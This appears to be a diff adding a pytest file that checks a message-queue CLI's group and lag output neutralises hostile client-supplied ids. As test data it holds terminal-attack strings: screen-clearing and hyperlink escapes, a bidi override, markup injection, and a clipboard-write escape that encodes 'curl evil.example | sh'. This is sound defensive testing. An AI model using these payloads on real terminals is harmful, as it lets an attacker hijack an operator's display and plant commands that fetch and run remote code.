@@ -1,0 +1,85 @@
+"""Text a client chose, printed for an operator: it must never drive the terminal nor be rich markup.
+
+Any local process picks its client id, member id, group id, commit metadata, error texts and
+records (docs/security.md). Each test hands a command's renderer such text, built to attack a
+terminal, and reads what would reach the screen: no escape sequence, carriage return, C1 control
+or bidi override gets through, each shows as its escape (`\\x1b`), and markup shows as written.
+Pure, without a cluster: the renderers are called with the data a cluster would answer.
+"""
+
+from __future__ import annotations
+
+import argparse
+import io
+import re
+
+from rich.console import Console
+
+from actors.messages import GroupSummary
+from railmq import cli_groups
+from railmq.cli_groups import render_group_lag
+from railmq.lag import GroupLag, MemberLag, PartitionLag
+
+CLEAR_SCREEN = "\x1b[2J\x1b[H"
+HYPERLINK = "\x1b]8;;https://evil.example/\x07click me\x1b]8;;\x07"
+CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
+OVERWRITE = "victim\rattacker"
+C1_CSI = "\x9b2J"
+REVERSED = "\u202eexe.txt"
+MARKUP = "[/][link=https://evil.example/]x[/link][bold]"
+HOSTILE = [CLEAR_SCREEN, HYPERLINK, CLIPBOARD, OVERWRITE, C1_CSI, REVERSED, MARKUP]
+# Anything that would make a terminal act: ESC, CR, BEL, the other C0 and C1 controls, bidi controls.
+ACTING = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")
+
+
+def plain_console() -> tuple[Console, io.StringIO]:
+    """A console without colours, so every ESC in its output came from the data."""
+    out = io.StringIO()
+    return Console(file=out, width=400, color_system=None, force_terminal=False), out
+
+
+def assert_inert(printed: str) -> None:
+    assert not ACTING.search(printed), f"a control character reached the terminal: {printed!r}"
+
+
+def hostile_report(name: str) -> GroupLag:
+    return GroupLag(
+        group_id=f"orders-{name}", state="Stable", generation=3, protocol=name,  # the members' choice
+        members=[MemberLag(member_id=f"{name}-m1", client_id=name, partitions=[("orders", 0)]),
+                 MemberLag(member_id=f"idle-{name}", client_id="x", idle=True)],
+        partitions=[PartitionLag(topic="orders", partition=0, member_id=f"{name}-m1", client_id=name,
+                                 committed_offset=5, log_end_offset=9, lag_messages=4)])
+
+
+def test_groups_describe_shows_hostile_ids_as_escapes_never_as_terminal_controls():
+    for name in HOSTILE:
+        console, out = plain_console()
+        render_group_lag(hostile_report(name), console)
+        printed = out.getvalue()
+        assert_inert(printed)
+    console, out = plain_console()
+    render_group_lag(hostile_report(CLEAR_SCREEN), console)
+    assert "group orders-\\x1b[2J\\x1b[H" in out.getvalue()
+    assert "idle member (no partitions): x / idle-\\x1b[2J\\x1b[H" in out.getvalue()
+    console, out = plain_console()
+    render_group_lag(hostile_report(MARKUP), console)  # was MarkupError, or a link
+    assert f"group orders-{MARKUP} (classic, Stable, generation 3, protocol {MARKUP})" in out.getvalue()
+    assert f"{MARKUP}-m1" in out.getvalue()
+
+
+def test_groups_list_shows_hostile_group_ids_as_escapes(monkeypatch, capsys):
+    class Client:
+        def __enter__(self):
+            return self
+
+        def __exit__(self, *exc):
+            return False
+
+        def list_groups(self):
+            return [GroupSummary(group_id=name, kind="classic", state="Empty", members=0) for name in HOSTILE]
+
+    monkeypatch.setattr(cli_groups, "_client", lambda args: Client())
+    assert cli_groups.run_list(argparse.Namespace(json=False)) == 0
+    printed = capsys.readouterr().out
+    assert_inert(printed)
+    assert "\\u202eexe.txt" in printed and "victim\\rattacker" in printed and MARKUP in printed
